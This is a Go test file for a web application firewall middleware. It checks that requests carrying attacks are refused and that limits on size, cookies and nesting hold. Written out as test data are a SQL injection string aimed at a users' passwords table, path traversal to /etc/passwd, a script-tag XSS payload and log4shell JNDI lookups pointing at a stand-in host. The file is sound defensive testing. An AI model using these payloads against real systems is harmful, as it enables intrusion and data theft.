package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/textproto"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ringwall/ringwall/errors"
)

const injection = "1' OR '1'='1' UNION SELECT password FROM users--"

// many returns n harmless members and an attack after them.
func many(n int, format, separator string) string {
	var parts []string
	for i := range n {
		parts = append(parts, fmt.Sprintf(format, i, "x"))
	}
	return strings.Join(append(parts, fmt.Sprintf(format, n, strings.ReplaceAll(injection, " ", "%20"))), separator)
}

func TestAttacksAreBlocked(t *testing.T) {
	behind := &seen{}
	service := httptest.NewServer(behind)
	t.Cleanup(service.Close)
	e := startEdge(t, service.URL)
	form := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	query := "?q=" + strings.ReplaceAll(injection, " ", "%20")
	quoted, err := json.Marshal(injection)
	require.NoError(t, err)
	for i, row := range []struct {
		name   string
		status int
		code   string
		request
	}{
		{"SQL injection in the query", 403, "request_blocked", request{method: "GET", path: "/products" + query}},
		{"SQL injection in a JSON value", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"items":[{"sku":` + string(quoted) + `}]}`}},
		{"SQL injection in a JSON value, escaped", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"sku":"1\u0027 OR \u00271\u0027=\u00271"}`}},
		{"SQL injection in a doubled member", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"sku":"a","sku":` + string(quoted) + `}`}},
		{"SQL injection in a form", 403, "request_blocked", request{method: "POST", path: "/orders", body: "a=" + strings.ReplaceAll(injection, " ", "%20"), header: form}},
		{"SQL injection in a member like a note, elsewhere", 403, "request_blocked", request{method: "POST", path: "/admin/refund/1", body: `{"note":` + string(quoted) + `}`}},
		{"SQL injection in a member of a note", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"note":{"note":` + string(quoted) + `}}`}},
		{"SQL injection in an item's note", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"items":[{"note":` + string(quoted) + `}]}`}},
		{"SQL injection in a parameter with the name of a member", 400, "request_unreadable", request{method: "POST", path: "/orders" + strings.Replace(query, "?q", "?json.note", 1), body: `{}`}},
		{"SQL injection in a field with the name of a member", 400, "request_unreadable", request{method: "POST", path: "/orders", body: "JSON.note=" + strings.ReplaceAll(injection, " ", "%20"), header: form}},
		{"SQL injection in a password, at another path", 403, "request_blocked", request{method: "POST", path: "/auth//login", body: `{"password":` + string(quoted) + `}`}},
		{"path traversal", 403, "request_blocked", request{method: "GET", path: "/products?q=../../../../etc/passwd"}},
		{"path traversal, escaped", 403, "request_blocked", request{method: "GET", path: "/products?q=..%2f..%2f..%2fetc%2fpasswd"}},
		{"path traversal in the path", 403, "request_blocked", request{method: "GET", path: "/static/..%2f..%2f..%2fetc%2fpasswd"}},
		{"cross-site scripting", 403, "request_blocked", request{method: "GET", path: "/products?q=%3Cscript%3Ealert(1)%3C/script%3E"}},
		{"cross-site scripting in a note", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"note":"<script>alert(1)</script>"}`}},
		{"log4shell in a header", 403, "request_blocked", request{method: "GET", path: "/products", header: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}}},
		{"log4shell in the User-Agent", 403, "request_blocked", request{method: "GET", path: "/products", header: map[string]string{"User-Agent": "${jndi:ldap://evil.example/a}"}}},
		{"log4shell in a note", 403, "request_blocked", request{method: "POST", path: "/orders", body: `{"note":"${jndi:ldap://evil.example/a}"}`}},
		{"the 1101st member of JSON", 400, "request_unreadable", request{method: "POST", path: "/orders", body: "{" + many(1100, `"f%d":"%s"`, ",") + "}"}},
		{"the 1101st item of JSON", 400, "request_unreadable", request{method: "POST", path: "/orders", body: `{"items":[` + strings.Repeat(`"x",`, 1100) + string(quoted) + `]}`}},
		{"the 1101st field of a form", 400, "request_unreadable", request{method: "POST", path: "/orders", body: many(1100, "f%d=%s", "&"), header: form}},
		{"the 1101st parameter", 400, "request_unreadable", request{method: "GET", path: "/products?" + many(1100, "f%d=%s", "&")}},
		{"33 levels", 400, "request_unreadable", request{method: "POST", path: "/orders", body: strings.Repeat(`{"a":`, 33) + "1" + strings.Repeat("}", 33)}},
		{"no JSON", 400, "request_unreadable", request{method: "POST", path: "/orders", body: `{"a":`}},
		{"gzip", 400, "request_unreadable", request{method: "POST", path: "/orders", body: "\x1f\x8b\x08\x00", header: map[string]string{"Content-Encoding": "gzip"}}},
		{"a body without a type", 415, "unsupported_media_type", request{method: "POST", path: "/orders", body: `{"a":` + string(quoted) + `}`, header: map[string]string{"Content-Type": ""}}},
		{"a type that no rule reads", 415, "unsupported_media_type", request{method: "POST", path: "/orders", body: `{"a":1}`, header: map[string]string{"Content-Type": "application/json-seq"}}},
		{"a picture elsewhere", 415, "unsupported_media_type", request{method: "PUT", path: "/orders", body: "--x--\r\n", header: map[string]string{"Content-Type": "multipart/form-data; boundary=x"}}},
		{"a picture by POST", 415, "unsupported_media_type", request{method: "POST", path: "/products/RAM1/picture", body: "--x--\r\n", header: map[string]string{"Content-Type": "multipart/form-data; boundary=x"}}},
		{"JSON in the place of a picture", 403, "request_blocked", request{method: "PUT", path: "/products/RAM1/picture", body: `{"a":` + string(quoted) + `}`}},
		{"64 KiB", 413, "content_too_large", request{method: "POST", path: "/orders", body: `"` + strings.Repeat("a", 64<<10) + `"`}},
		{"64 KiB of unknown length", 413, "content_too_large", request{method: "POST", path: "/orders", body: `"` + strings.Repeat("a", 64<<10) + `"`, chunked: true}},
		{"4000 cookies", 431, "too_many_cookies", request{method: "GET", path: "/products", header: map[string]string{"Cookie": strings.Repeat("a=b; ", 4000)}}},
		{"cookies of 9 KiB", 431, "too_many_cookies", request{method: "GET", path: "/products", header: map[string]string{"Cookie": "a=" + strings.Repeat("b", 9<<10)}}},
		{"a query of 9 KiB", 414, "url_too_long", request{method: "GET", path: "/products?q=" + strings.Repeat("b", 9<<10)}},
		{"TRACE", 403, "request_blocked", request{method: "TRACE", path: "/products"}},
	} {
		t.Run(row.name, func(t *testing.T) {
			row.from = byte(10 + i) // the limits have clients of their own
			e.refused(t, behind, row.status, row.code, row.request)
		})
	}
	require.Contains(t, e.log.String(), "942100")
	require.NotContains(t, e.log.String(), "UNION SELECT", "the log names the rules, never what they found")
}

// A rule of its own lets pictures pass, unread and unchanged.
func TestPicturesPassUnread(t *testing.T) {
	behind := &seen{}
	service := httptest.NewServer(behind)
	t.Cleanup(service.Close)
	e := startEdge(t, service.URL)
	picture := func(size int) request {
		var b bytes.Buffer
		form := multipart.NewWriter(&b)
		part, err := form.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="picture"; filename="ram.png"`}, "Content-Type": {"image/png"}})
		require.NoError(t, err)
		_, err = part.Write(bytes.Repeat([]byte("\x89PNG' OR 1=1--<script>"), size/22))
		require.NoError(t, err)
		require.NoError(t, form.Close())
		return request{method: "PUT", path: "/products/RAM1/picture", body: b.String(), header: map[string]string{"Content-Type": form.FormDataContentType()}}
	}
	q := picture(1 << 20)
	a := e.do(t, q)
	require.Equal(t, 200, a.StatusCode, a.raw)
	_, body := behind.get()
	require.Equal(t, q.body, body)
	q = picture(1 << 10)
	q.path += "?q=" + strings.ReplaceAll(injection, " ", "%20")
	e.refused(t, behind, 403, "request_blocked", q)

	q = picture(3 << 20)
	require.Equal(t, 413, e.do(t, q).StatusCode)
	q.chunked = true
	require.Equal(t, 413, e.do(t, q).StatusCode)
}

// A body of 1 MiB costs less than reading one of 12 KiB, by far.
func TestLargeBodiesAreCheap(t *testing.T) {
	behind := &seen{}
	service := httptest.NewServer(behind)
	t.Cleanup(service.Close)
	e := startEdge(t, service.URL)
	fastest := func(q request, status int) time.Duration {
		best := time.Hour
		for range 2 {
			started := time.Now()
			require.Equal(t, status, e.do(t, q).StatusCode)
			best = min(best, time.Since(started))
		}
		return best
	}
	text := func(size int) string { return `{"a":"` + strings.Repeat("some words, ", size/12) + `"}` }
	read := fastest(request{method: "POST", path: "/orders", body: text(12 << 10)}, 200)
	known := fastest(request{method: "POST", path: "/orders", body: text(1 << 20), from: 2}, 413)
	unknown := fastest(request{method: "POST", path: "/orders", body: text(1 << 20), chunked: true, from: 3}, 413)
	t.Logf("12 KiB that are read: %v; 1 MiB that is refused: %v, of unknown length: %v", read, known, unknown)
	require.Less(t, known, read)
	require.Less(t, unknown, read)
}

// With -detect everything passes, and the log has the would-be refusals.
func TestDetectOnlyLogs(t *testing.T) {
	behind := &seen{}
	service := httptest.NewServer(behind)
	t.Cleanup(service.Close)
	e := startEdge(t, service.URL, "-detect")
	for i, row := range []struct {
		name, logged string
		request
	}{
		{"an attack", "949110", request{method: "GET", path: "/products?q=" + strings.ReplaceAll(injection, " ", "%20")}},
		{"no JSON", "200002", request{method: "POST", path: "/orders", body: `{"a":`}},
		{"a large body", "content_too_large", request{method: "POST", path: "/orders", body: `"` + strings.Repeat("a", 1<<20) + `"`}},
		{"a large body of unknown length", "content_too_large", request{method: "POST", path: "/orders", body: `"` + strings.Repeat("a", 1<<20) + `"`, chunked: true}},
		{"4000 cookies", "too_many_cookies", request{method: "GET", path: "/products", header: map[string]string{"Cookie": strings.Repeat("a=b; ", 4000)}}},
		{"a type that no rule reads", "unsupported_media_type", request{method: "POST", path: "/orders", body: "text", header: map[string]string{"Content-Type": "text/plain"}}},
	} {
		t.Run(row.name, func(t *testing.T) {
			row.from = byte(10 + i)
			before := len(e.log.String())
			a := e.do(t, row.request)
			require.Equal(t, 200, a.StatusCode, a.raw)
			_, body := behind.get()
			require.Equal(t, row.body, body)
			require.Contains(t, e.log.String()[before:], "request would be blocked")
			require.Contains(t, e.log.String()[before:], row.logged)
		})
	}
	before := len(e.log.String())
	require.Equal(t, 200, e.do(t, request{method: "GET", path: "/products"}).StatusCode)
	require.Equal(t, before, len(e.log.String()), "a harmless request is not logged")
}

// The firewall is a middleware as others are: inside a service it stands
// behind the limits, and the handler reads the body that the rules have read.
func TestFirewallIsAMiddleware(t *testing.T) {
	rules, err := newFirewall(options{clientIP: func(*http.Request) (netip.Addr, bool) { return netip.MustParseAddr("2001:db8::1"), true }})
	require.NoError(t, err)
	failures := errors.Must(errors.NewResponder(errors.Options{}))
	behind := &seen{}
	service := httptest.NewServer(failures.Handler(rules.Handler(behind)))
	t.Cleanup(service.Close)
	res, err := http.Post(service.URL+"/orders", "application/json", strings.NewReader(`{"sku":"RAM1"}`))
	require.NoError(t, err)
	require.NoError(t, res.Body.Close())
	require.Equal(t, 200, res.StatusCode)
	_, body := behind.get()
	require.Equal(t, `{"sku":"RAM1"}`, body)
	res, err = http.Post(service.URL+"/orders", "application/json", strings.NewReader(`{"sku":"`+injection+`"}`))
	require.NoError(t, err)
	require.NoError(t, res.Body.Close())
	require.Equal(t, 403, res.StatusCode)
	require.Equal(t, 1, behind.count())
}

func TestPictureInProcessLeavesNoTemporaryFile_FE1(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	rules := errors.Must(newFirewall(options{}))
	failures := errors.Must(errors.NewResponder(errors.Options{}))
	service := httptest.NewServer(failures.Handler(rules.Handler(errors.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) error {
		if err := r.ParseMultipartForm(1); err != nil {
			return err
		}
		if stored, _ := filepath.Glob(filepath.Join(dir, "multipart-*")); len(stored) != 1 {
			return errors.New("the picture is not in a file")
		}
		return nil
	}))))
	var b bytes.Buffer
	form := multipart.NewWriter(&b)
	part, err := form.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="picture"; filename="ram.png"`}, "Content-Type": {"image/png"}})
	require.NoError(t, err)
	_, err = part.Write(bytes.Repeat([]byte("x"), 100<<10))
	require.NoError(t, err)
	require.NoError(t, form.Close())
	r, err := http.NewRequestWithContext(t.Context(), "PUT", service.URL+"/products/RAM1/picture", &b)
	require.NoError(t, err)
	r.Header.Set("Content-Type", form.FormDataContentType())
	res, err := http.DefaultClient.Do(r)
	require.NoError(t, err)
	require.NoError(t, res.Body.Close())
	require.Equal(t, 200, res.StatusCode)
	service.Close() // waits for the end of the request
	left, err := filepath.Glob(filepath.Join(dir, "*"))
	require.NoError(t, err)
	require.Empty(t, left)
}

// Coraza's own middleware answers 200 when it cannot read a body, and hides
// what the writer can do.
func TestUnreadableBodiesAreRefused(t *testing.T) {
	rules := errors.Must(newFirewall(options{}))
	failures := errors.Must(errors.NewResponder(errors.Options{}))
	behind := &seen{}
	for _, row := range []struct {
		name, sent string
		status     int
	}{
		{
			name:   "a bound outside of the firewall",
			sent:   "POST /orders HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n" + strings.Repeat("1", 100),
			status: 413,
		},
		{name: "a body that stops", sent: "POST /orders HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n1", status: 408},
		{name: "a broken chunk", sent: "POST /orders HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", status: 400},
	} {
		t.Run(row.name, func(t *testing.T) {
			service := httptest.NewUnstartedServer(failures.Handler(http.MaxBytesHandler(rules.Handler(behind), 10)))
			service.Config.ReadTimeout = 300 * time.Millisecond
			service.Start()
			t.Cleanup(service.Close)
			conn, err := net.Dial("tcp", service.Listener.Addr().String())
			require.NoError(t, err)
			t.Cleanup(func() { _ = conn.Close() })
			_, err = io.WriteString(conn, row.sent)
			require.NoError(t, err)
			res, err := http.ReadResponse(bufio.NewReader(conn), nil)
			require.NoError(t, err)
			require.Equal(t, row.status, res.StatusCode)
			require.Zero(t, behind.count())
		})
	}
}

func TestWriterIsNotWrapped(t *testing.T) {
	rules := errors.Must(newFirewall(options{}))
	service := httptest.NewServer(rules.Handler(errors.HandlerFunc(func(w http.ResponseWriter, r *http.Request) error {
		control := http.NewResponseController(w)
		if err := errors.Join(control.SetReadDeadline(time.Now().Add(time.Minute)), control.Flush()); err != nil {
			return err
		}
		<-r.Context().Done() // the first bytes are out already
		return nil
	})))
	t.Cleanup(service.Close)
	res, err := http.Get(service.URL)
	require.NoError(t, err)
	require.Equal(t, 200, res.StatusCode)
	_ = res.Body.Close()
}
